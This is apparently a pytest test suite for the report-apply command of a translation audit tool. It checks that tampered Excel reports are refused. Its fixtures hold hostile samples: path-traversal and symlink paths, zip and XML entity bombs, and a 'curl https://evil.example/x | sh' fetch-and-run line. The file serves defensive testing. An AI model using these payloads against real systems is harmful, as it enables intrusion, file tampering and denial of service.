"""`audit apply` treats a report as untrusted: it touches only files inside the
corpus root, refuses a report inconsistent with itself, bounds what it
inflates, and turns every parse failure into one line and exit 2."""
import hashlib
import os
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from audit.report.apply import apply_report
from audit.cli import app
from audit.errors import InputError
from audit.report.cells import from_machine_text, machine_text
from audit.report.excel import write_excel
from audit.report.synthetic import build_set
from audit.report.untrusted import MAX_MEMBER
from audit.terms.termbase import load_termbase
from conftest import resign

runner = CliRunner()
SOURCE = ["Our client is happy.", "The customer buys shoes."]
TARGET = ["Khách hàng của chúng tôi rất vui.", "Khách hàng mua giày."]
SECRET = b"the victim's secret\n"


@pytest.fixture(scope="module")
def tb():
    return load_termbase()


@pytest.fixture
def setup(tmp_path, tb):
    """A corpus in tmp/corpus/in, its report, and a victim file outside the corpus."""
    sr = build_set(tmp_path / "corpus" / "in", SOURCE, TARGET, termbase=tb)
    report = write_excel([sr], tmp_path / "rep" / "audit.xlsx", {}, tb)
    victim = tmp_path / "victim" / "secret.txt"
    victim.parent.mkdir()
    victim.write_bytes(SECRET)
    return sr, report, victim


def edit(report: Path, row_cells: dict, inputs: dict | None = None, decision="accept", signed=True) -> None:
    """What an outside reviewer could do: set a Decision and rewrite hidden cells
    of the first row (and the marker's input list). `signed`: then sign the
    workbook again, as if the editor held the auditor's key, to test the checks
    that stand behind the signature."""
    wb = openpyxl.load_workbook(report)
    ws = wb["Findings"]
    hdr = [c.value for c in ws[1]]
    ws.cell(2, hdr.index("Decision") + 1, decision)
    for header, value in row_cells.items():
        ws.cell(2, hdr.index(header) + 1, value)
    if inputs is not None:
        marker = wb["_audit"]
        rows = [r for r in marker.iter_rows() if r[0].value == "input"]
        for row, (rel, digest) in zip(rows, inputs.items()):
            row[1].value, row[2].value = machine_text(rel), digest
    wb.save(report)
    if signed:
        resign(report)


def snapshot(*folders: Path) -> dict:
    return {p: p.read_bytes() for f in folders for p in sorted(f.rglob("*")) if p.is_file()}


def traversal_cells(victim: Path, rel: str) -> dict:
    word = "the"          # the victim's text at 0-3 is "the"; the report claims it is the flagged word
    return {"_relpath": machine_text(rel),
            "_sha256": machine_text(hashlib.sha256(SECRET).hexdigest()),
            "_word": machine_text(word), "_start": 0, "_end": 3, "_sentence_start": 0,
            "_sentence": machine_text("the victim's secret"), "_replacement": machine_text("OWNED"),
            "File": victim.name}


@pytest.mark.parametrize("how", ["dotdot", "absolute", "dotdot-inputs-edited", "absolute-inputs-edited"])
@pytest.mark.parametrize("mode", ["in-place", "out"])
def test_traversal_report_is_refused_without_touching_anything(tmp_path, setup, how, mode):
    sr, report, victim = setup
    rel = "../../victim/secret.txt" if how.startswith("dotdot") else str(victim)
    sha = hashlib.sha256(SECRET).hexdigest()
    inputs = {rel: sha} if how.endswith("inputs-edited") else None
    edit(report, traversal_cells(victim, rel), inputs)
    before = snapshot(tmp_path / "corpus", tmp_path / "victim")
    args = ["apply", str(report)] + (["--in-place"] if mode == "in-place" else ["--out", str(tmp_path / "o")])
    res = runner.invoke(app, args)
    assert res.exit_code == 2, res.output
    assert res.output.count("\n") == 1 and "refused" in res.output and "Traceback" not in res.output
    assert ("absolute path" in res.output) if how.startswith("absolute") else (".." in res.output)
    assert snapshot(tmp_path / "corpus", tmp_path / "victim") == before
    assert not (tmp_path / "o").exists()
    assert not victim.with_name("secret.txt.bak").exists()


def test_symlink_leaving_the_root_is_refused_and_named(tmp_path, setup):
    sr, report, victim = setup
    link = tmp_path / "corpus" / "in" / "notes.txt"
    os.symlink(victim, link)
    sha = hashlib.sha256(SECRET).hexdigest()
    edit(report, {**traversal_cells(victim, "notes.txt"), "File": "notes.txt"}, {"notes.txt": sha})
    with pytest.raises(InputError, match=f"is a link to {victim}, outside the corpus root"):
        apply_report(report, in_place=True)
    assert victim.read_bytes() == SECRET


def test_visible_file_must_agree_with_the_hidden_path(tmp_path, setup):
    sr, report, victim = setup
    edit(report, {"File": "en.txt"})          # the row still points at in/vi.txt
    target = (tmp_path / "corpus" / "in" / "vi.txt").resolve()
    with pytest.raises(InputError, match=f"File column says 'en.txt' but the row points at {target}"):
        apply_report(report, out_dir=tmp_path / "o")


def test_file_not_in_the_report_inputs_is_refused(tmp_path, setup):
    sr, report, victim = setup
    other = tmp_path / "corpus" / "in" / "other.txt"
    other.write_bytes(SECRET)
    edit(report, {**traversal_cells(other, "other.txt"), "File": "other.txt"})
    with pytest.raises(InputError, match="not one of the files the report audited"):
        apply_report(report, in_place=True)
    assert other.read_bytes() == SECRET


def test_sha256_is_checked_against_the_file_on_disk(tmp_path, setup):
    """Report and its input list agree, but the file on disk is other than
    both: skipped, never forced."""
    sr, report, victim = setup
    vi = tmp_path / "corpus" / "in" / "vi.txt"
    vi.write_bytes(vi.read_bytes().replace("vui".encode(), "buồn".encode()))
    edit(report, {})
    result = apply_report(report, in_place=True)
    assert result.written == [] and result.skipped == 1
    assert "sha256 differs" in result.outcomes[0].reason


def test_root_option_moves_the_corpus(tmp_path, setup):
    sr, report, victim = setup
    moved = tmp_path / "elsewhere"
    (tmp_path / "corpus").rename(moved)
    edit(report, {})
    with pytest.raises(InputError, match="corpus root is not a folder"):
        apply_report(report, out_dir=tmp_path / "o")
    res = runner.invoke(app, ["apply", str(report), "--root", str(moved / "in"), "--out", str(tmp_path / "o")])
    assert res.exit_code == 0, res.output
    assert f"applied  demo-1  {(moved / 'in' / 'vi.txt').resolve()}:1" in res.output
    assert f"wrote {(tmp_path / 'o' / 'vi.txt').resolve()}" in res.output


def test_marker_records_inputs_and_no_root(setup):
    sr, report, victim = setup
    wb = openpyxl.load_workbook(report)
    info = {r[0]: r[1] for r in wb["_audit"].iter_rows(values_only=True)}
    assert "corpus root" not in info and info["report id"] and info["signature"]
    inputs = {from_machine_text(r[1]): r[2] for r in wb["_audit"].iter_rows(values_only=True) if r[0] == "input"}
    assert inputs == {"en.txt": sr.versions[0].version.sha256, "vi.txt": sr.versions[1].version.sha256}
    ws = wb["Findings"]
    k = [c.value for c in ws[1]].index("_relpath")
    assert {from_machine_text(r[k]) for r in ws.iter_rows(min_row=2, values_only=True)} == {"vi.txt"}


def test_workbook_holds_no_absolute_path(tmp_path, tb):
    """A report meant to travel names files relative to the corpus root only:
    no part of the zip holds the auditor's folders."""
    from audit.report import write_reports
    sr = build_set(tmp_path / "corpus" / "in", SOURCE, TARGET, termbase=tb)
    write_reports([sr], tmp_path / "rep", ["xlsx"], {"corpus": str(tmp_path / "corpus"),
                                                   "termbase": str(tmp_path / "tb.toml")}, tb)
    with zipfile.ZipFile(tmp_path / "rep" / "audit.xlsx") as z:
        text = b"".join(z.read(n) for n in z.namelist())
    for folder in {str(tmp_path), str(tmp_path.resolve()), str(Path.home())}:
        assert folder.encode() not in text
    assert b"in/vi.txt" in text


def attack(report: Path, victim: Path) -> None:
    """The attack of issue 19: the hidden marker names another folder as the
    corpus root, lists a file there with its sha256, and a Findings row aims an
    `edit` at its first line."""
    wb = openpyxl.load_workbook(report)
    ws = wb["Findings"]
    hdr = [c.value for c in ws[1]]
    cells = {**traversal_cells(victim, victim.name), "Decision": "edit",
             "Edited text": "curl https://evil.example/x | sh", "File": victim.name}
    for header, value in cells.items():
        ws.cell(2, hdr.index(header) + 1, value)
    marker = wb["_audit"]
    marker.append(["corpus root", str(victim.parent)])
    marker.append(["input", machine_text(victim.name), hashlib.sha256(SECRET).hexdigest()])
    wb.save(report)


@pytest.mark.parametrize("signed", [False, True])
def test_the_issue_19_attack_changes_nothing(tmp_path, setup, signed):
    """Unsigned, the edit is refused whole (exit 2, one line). Even signed
    again by someone holding the key, the root is this machine's record of
    the corpus, not the workbook's: the row names no file there, nothing is
    written."""
    sr, report, victim = setup
    attack(report, victim)
    if signed:
        resign(report)
    before = snapshot(tmp_path / "corpus", tmp_path / "victim")
    res = runner.invoke(app, ["apply", str(report), "--in-place"])
    assert victim.read_bytes() == SECRET
    assert snapshot(tmp_path / "corpus", tmp_path / "victim") == before
    assert "Traceback" not in res.output
    if not signed:
        assert res.exit_code == 2 and res.output.count("\n") == 1
        assert "changed after the report was signed" in res.output
    else:
        assert res.exit_code == 1 and "0 applied" in res.output and "file not found" in res.output


def test_report_signed_on_another_machine_is_refused(tmp_path, setup, monkeypatch):
    from audit.report.signing import HOME_ENV
    sr, report, victim = setup
    edit(report, {})
    monkeypatch.setenv(HOME_ENV, str(tmp_path / "other-machine"))
    res = runner.invoke(app, ["apply", str(report), "--in-place", "--root", str(tmp_path / "corpus" / "in")])
    assert res.exit_code == 2 and res.output.count("\n") == 1
    assert "signed on another machine" in res.output


def test_without_this_machines_record_the_root_must_be_given(tmp_path, setup):
    from audit.report.signing import REGISTRY_FILE, home
    sr, report, victim = setup
    edit(report, {})
    (home() / REGISTRY_FILE).unlink()
    res = runner.invoke(app, ["apply", str(report), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2 and "give --root" in res.output and res.output.count("\n") == 1
    res = runner.invoke(app, ["apply", str(report), "--out", str(tmp_path / "o"), "--root", str(tmp_path / "corpus" / "in")])
    assert res.exit_code == 0, res.output
    assert (tmp_path / "o" / "vi.txt").read_text(encoding="utf-8").startswith("Thân chủ")


def _rezip(report: Path, out: Path, change) -> None:
    """Copy the workbook's zip, passing each member through `change(name, data)`."""
    with zipfile.ZipFile(report) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, change(info.filename, src.read(info)))


def test_report_bomb_is_refused_in_bounded_memory(tmp_path, setup):
    """A few hundred KB that would inflate past the member limit (the issue's
    3 MB report inflated to 3 GiB): refused from the zip directory alone."""
    sr, report, victim = setup
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(report) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/sharedStrings.xml":
                dst.writestr(info.filename, src.read(info))
        with dst.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
            block = b"<si><t>" + b"A" * (1 << 20) + b"</t></si>"
            for _ in range(MAX_MEMBER // len(block) + 2):
                f.write(block)
    assert bomb.stat().st_size < 3 * 2**20
    tracemalloc.start()
    try:
        with pytest.raises(InputError, match="would inflate to"):
            apply_report(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * 2**20
    res = runner.invoke(app, ["apply", str(bomb)])
    assert res.exit_code == 2 and res.output.count("\n") == 1 and "refusing the report" in res.output


def test_truncated_report_is_one_line_and_exit_2(tmp_path, setup):
    sr, report, victim = setup
    data = report.read_bytes()
    for cut in (len(data) // 2, len(data) - 30, 100):
        bad = tmp_path / f"cut{cut}.xlsx"
        bad.write_bytes(data[:cut])
        res = runner.invoke(app, ["apply", str(bad)])
        assert res.exit_code == 2, (cut, res.output)
        assert res.output.count("\n") == 1 and str(bad) in res.output and "Traceback" not in res.output


def test_corrupt_member_is_one_line_and_exit_2(tmp_path, setup):
    """A zip whose directory is intact but whose sheet data is damaged (CRC error)."""
    sr, report, victim = setup
    data = bytearray(report.read_bytes())
    with zipfile.ZipFile(report) as z:
        info = z.getinfo("xl/worksheets/sheet2.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 10, start + min(info.compress_size, 200) - 10):
        data[i] ^= 0x55
    bad = tmp_path / "crc.xlsx"
    bad.write_bytes(bytes(data))
    res = runner.invoke(app, ["apply", str(bad)])
    assert res.exit_code == 2 and res.output.count("\n") == 1 and "Traceback" not in res.output


@pytest.mark.parametrize("member", ["xl/worksheets/sheet2.xml", "xl/workbook.xml"])
def test_dtd_in_a_sheet_is_refused(tmp_path, setup, member):
    sr, report, victim = setup
    bomb = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n')

    def change(name, data):
        if name != member:
            return data
        return bomb + data.split(b"?>", 1)[1].lstrip()
    bad = tmp_path / "dtd.xlsx"
    _rezip(report, bad, change)
    res = runner.invoke(app, ["apply", str(bad)])
    assert res.exit_code == 2, res.output
    assert res.output.count("\n") == 1 and "holds a DTD" in res.output and member in res.output


def test_out_that_is_a_file_is_refused_before_reading(tmp_path, setup):
    sr, report, victim = setup
    f = tmp_path / "afile"
    f.write_text("x")
    res = runner.invoke(app, ["apply", str(report), "--out", str(f)])
    assert res.exit_code == 2 and "--out is a file" in res.output


def test_apply_out_lists_written_files_in_report_order(tmp_path, tb):
    one = build_set(tmp_path / "c" / "b-set", SOURCE, TARGET, termbase=tb)
    two = build_set(tmp_path / "c" / "a-set", SOURCE, TARGET, termbase=tb)
    report = write_excel([one, two], tmp_path / "rep" / "audit.xlsx", {"options": {"corpus": str(tmp_path / "c")}}, tb)
    wb = openpyxl.load_workbook(report)
    ws = wb["Findings"]
    hdr = [c.value for c in ws[1]]
    for r in range(2, ws.max_row + 1):
        ws.cell(r, hdr.index("Decision") + 1, "accept")
        ws.cell(r, hdr.index("ID") + 1, f"row-{r}")      # the two synthetic sets share ids
    wb.save(report)
    resign(report)
    res = runner.invoke(app, ["apply", str(report), "--out", str(tmp_path / "o")])
    wrote = [ln.split(" ", 1)[1] for ln in res.output.splitlines() if ln.startswith("wrote ")]
    assert wrote == [str((tmp_path / "o" / "b-set" / "vi.txt").resolve()), str((tmp_path / "o" / "a-set" / "vi.txt").resolve())]


def test_legacy_encoding_round_trip(tmp_path, tb):
    """--encoding cp1251: read, reported, and written back in cp1251."""
    from audit.run.api import audit_corpus
    from audit.report import write_reports
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    text = "Клиент или клиент: в чём разница?\nКлиент покупает товары.\n"
    (corpus / "ru.txt").write_bytes(text.encode("cp1251"))
    res = runner.invoke(app, ["check", str(corpus / "ru.txt")])
    assert res.exit_code == 2 and "--encoding" in res.output and "cp1251" in res.output
    results = audit_corpus(corpus, tb, encoding="cp1251")
    assert results[0].findings
    [report] = write_reports(results, tmp_path / "rep", ["xlsx"], {"corpus": str(corpus)}, tb)
    wb = openpyxl.load_workbook(report)
    ws = wb["Findings"]
    hdr = [c.value for c in ws[1]]
    assert from_machine_text(ws.cell(2, hdr.index("_encoding") + 1).value) == "cp1251"
    ws.cell(2, hdr.index("Decision") + 1, "accept")
    wb.save(report)
    result = apply_report(report, in_place=True)
    assert result.count("applied") == 1, [o.reason for o in result.outcomes]
    new = (corpus / "ru.txt").read_bytes().decode("cp1251")      # still cp1251
    f = results[0].findings[0]
    assert new == text[:f.start] + f.replacement + text[f.end:]


def test_unknown_encoding_is_refused_before_work(tmp_path):
    res = runner.invoke(app, ["check", "corpora/ru-client-or-customer.txt", "--encoding", "klingon-8"])
    assert res.exit_code == 2 and res.output.strip() == "audit: error: --encoding: unknown encoding 'klingon-8'"


def test_sheet_bomb_is_refused_by_its_ratio(tmp_path, setup):
    """Worksheets may be large (openpyxl streams them) but never inflate 1000 times."""
    sr, report, victim = setup
    bomb = tmp_path / "sheet-bomb.xlsx"
    with zipfile.ZipFile(report) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet2.xml":
                dst.writestr(info.filename, src.read(info))
        with dst.open("xl/worksheets/sheet2.xml", "w") as f:
            f.write(b'<?xml version="1.0"?><worksheet><sheetData><row><c t="inlineStr"><is><t>')
            for _ in range(32):
                f.write(b"A" * (1 << 20))
            f.write(b"</t></is></c></row></sheetData></worksheet>")
    res = runner.invoke(app, ["apply", str(bomb)])
    assert res.exit_code == 2 and res.output.count("\n") == 1
    assert "'xl/worksheets/sheet2.xml' would inflate to 32 MiB" in res.output


def test_an_added_references_sheet_is_refused(tmp_path, setup):
    """The references sheet names files apply reads: one the report was not
    signed with is refused like any other change."""
    sr, report, victim = setup
    wb = openpyxl.load_workbook(report)
    ws = wb.create_sheet("_references")
    ws.append([machine_text("vi.txt"), machine_text("../../victim/secret.txt"), machine_text("vi")])
    ws.sheet_state = "veryHidden"
    wb["Findings"].cell(2, [c.value for c in wb["Findings"][1]].index("Decision") + 1, "accept")
    wb.save(report)
    res = runner.invoke(app, ["apply", str(report), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
    assert "references sheet was changed" in res.output
    assert not (tmp_path / "o").exists()


def test_unwritable_signing_home_fails_before_work(tmp_path, monkeypatch):
    from audit.report.signing import HOME_ENV
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where the folder would be")
    monkeypatch.setenv(HOME_ENV, str(blocker / "home"))
    res = runner.invoke(app, ["run", str(tmp_path / "nothing-here"), "--out", str(tmp_path / "rep")])
    assert res.exit_code == 2 and res.output.count("\n") == 1 and "signing key" in res.output, res.output
    assert not (tmp_path / "rep").exists()


def test_a_real_run_writes_no_absolute_path(tmp_path, tb):
    """The same on a pipeline run given absolute paths, with an observation
    (one word for both concepts where the distinction is not live)."""
    from audit.report import write_reports
    from audit.run.api import audit_corpus
    from conftest import po
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    po(corpus, "vi", [("Client name", "Tên khách hàng"), ("Customer list", "Danh sách khách hàng")])
    results = audit_corpus(corpus.resolve(), tb, align="structure")
    assert any(o for r in results for o in r.observations)
    write_reports(results, tmp_path / "rep", ["xlsx"], {"corpus": str(corpus.resolve())}, tb)
    with zipfile.ZipFile(tmp_path / "rep" / "audit.xlsx") as z:
        text = b"".join(z.read(n) for n in z.namelist())
    assert str(tmp_path.resolve()).encode() not in text and b"vi.po" in text
